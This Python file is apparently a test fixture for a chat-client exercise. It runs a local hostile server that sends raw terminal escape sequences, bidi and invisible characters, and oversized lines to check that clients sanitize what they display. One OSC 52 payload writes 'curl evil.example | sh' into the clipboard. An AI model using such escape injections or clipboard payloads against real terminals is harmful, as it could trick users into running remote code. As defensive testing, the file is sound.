"""A hostile chat server for the clients' tests: what a classmate's server, or any stage-5 room, may send.

    with HostileServer(ESCAPES + [END]) as server:      # each newcomer: the prompt, a join, then these
        ... connect a client to server.port ...
    HostileServer(chunks, hang_up=True)                  # close once everything is sent
    HostileServer(play=function)                         # play(peer) writes the whole conversation
    HostileServer(play=hang_up_after(TEN_MB))            # a join, 10 MB without a newline, a hang-up

It speaks just enough of the protocol (the nickname question, a join notice)
for a client to take it for a chat server, then sends raw bytes: nothing is
cleaned, cut or framed for the client.
"""

import base64
import socket
import threading

from chatkit import protocol

TIMEOUT = 10

ESCAPES = [  # one line each, as bytes on the wire; each is a message from bob whose words must show
    b"\x1b]0;PWNED TITLE\x07bob: osc 0 retitles the window",
    b"\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh") + b"\x07bob: osc 52 writes the clipboard",
    b"\x1b[2J\x1b[Hbob: esc[2J clears the screen",
    b"\x1b[31;1;5mbob: red blinking\x1b[0m colours",
    b"bob: a bare CR\rmallory: rewrites the line",
    "bob: C1 \u009b2J and \u009d0;C1 TITLE\u009c controls".encode(),
    b"bob: bell\x07\x07\x07 and NUL\x00 and backspace\x08\x08",
    "bob: bidi \u202eoverride\u202c and \u2066isolate\u2069 and \u200fRLM\u061cALM".encode(),
    "bob: zero\u200bwidth, BOM\ufeff, line\u2028separator, filler\u3164".encode(),
    "bob: 한국어는 그대로 👍".encode(),
]
END = b"bob: end of the hostile lines"
SHOWN = [  # what a client must show of ESCAPES, in order (its words, nothing else)
    "bob: osc 0 retitles the window",
    "bob: osc 52 writes the clipboard",
    "bob: esc[2J clears the screen",
    "bob: red blinking colours",
    "bob: a bare CRmallory: rewrites the line",
    "bob: C1  and  controls",
    "bob: bell and NUL and backspace",
    "bob: bidi override and isolate and RLMALM",
    "bob: zerowidth, BOM, line separator, filler",
    "bob: 한국어는 그대로 👍",
]
FORBIDDEN = "\x1b\x07\x00\x08\r\x9b\x9c\x9d\u202e\u202c\u2066\u2069\u200f\u061c\u200b\ufeff\u2028\u3164"
LONG_KOREAN = "bob: " + "가" * 5000  # 5,000 characters: more than any client keeps of a line
AFTER_LONG = b"bob: after the long line"
TEN_MB = b"bob: " + b"x" * (10 * 1024 * 1024)  # and no newline: then the server hangs up
HALF_LINE = b"bob: half a li"  # then the server hangs up mid-line


def hang_up_after(data):
    """A play: welcome the newcomer, send `data` with no newline after it, hang up."""
    def play(peer):
        peer.welcome()
        peer.send(data, newline=False)
        peer.sock.shutdown(socket.SHUT_RDWR)

    return play


class Peer:
    """The hostile server's side of one connection."""

    def __init__(self, sock):
        self.sock = sock
        self.sock.settimeout(TIMEOUT)
        self.received = b""

    def send(self, *lines, newline=True):
        """Send raw lines (bytes or str), each followed by a newline unless newline=False."""
        for line in lines:
            data = line.encode() if isinstance(line, str) else line
            self.sock.sendall(data + (b"\n" if newline else b""))

    def read_line(self):
        """The next line the client sends, as text ("" if it hung up)."""
        while b"\n" not in self.received:
            data = self.sock.recv(4096)
            if not data:
                return ""
            self.received += data
        line, self.received = self.received.split(b"\n", 1)
        return line.decode(errors="replace").removesuffix("\r")

    def welcome(self, count=2, rules=protocol.RULES):
        """Ask the nickname, announce the join (count people in the room), say the rules; return the nick."""
        self.send(protocol.PROMPT)
        nick = self.read_line()
        self.send(protocol.JOINED.format(nick=nick, count=count), rules)
        return nick


class HostileServer:
    """A server on 127.0.0.1 (a free port) that welcomes each newcomer, then plays its script."""

    def __init__(self, chunks=(), hang_up=False, play=None):
        self.chunks, self.hang_up, self.play = list(chunks), hang_up, play
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.address = ("127.0.0.1", self.port)
        self.peers = []
        self.threads = []
        self.errors = []  # what went wrong on the server's side (a client that stopped reading...)
        self.accepting = threading.Thread(target=self.accept, name="hostile server", daemon=True)
        self.accepting.start()

    def accept(self):
        while True:
            try:
                sock, _ = self.listener.accept()
            except OSError:  # closed by stop()
                return
            peer = Peer(sock)
            self.peers.append(peer)
            thread = threading.Thread(target=self.serve, args=(peer,), name="hostile peer", daemon=True)
            self.threads.append(thread)
            thread.start()

    def serve(self, peer):
        try:
            if self.play is not None:
                self.play(peer)
            else:
                nick = peer.welcome()
                peer.send(*self.chunks)
                if self.hang_up:
                    peer.sock.shutdown(socket.SHUT_RDWR)
                    return
                while (line := peer.read_line()) not in ("", "/quit"):  # until the client leaves
                    pass
                if line == "/quit":
                    peer.send(protocol.BYE.format(nick=nick))
        except OSError as error:
            self.errors.append(error)
        finally:
            peer.sock.close()

    def stop(self):
        try:
            self.listener.shutdown(socket.SHUT_RDWR)  # wakes the accept(): close() alone would not
        except OSError:
            pass
        self.listener.close()
        self.accepting.join(TIMEOUT)
        for peer in self.peers:
            try:
                peer.sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
        for thread in self.threads:
            thread.join(TIMEOUT)

    def __enter__(self):
        return self

    def __exit__(self, *exc_info):
        self.stop()
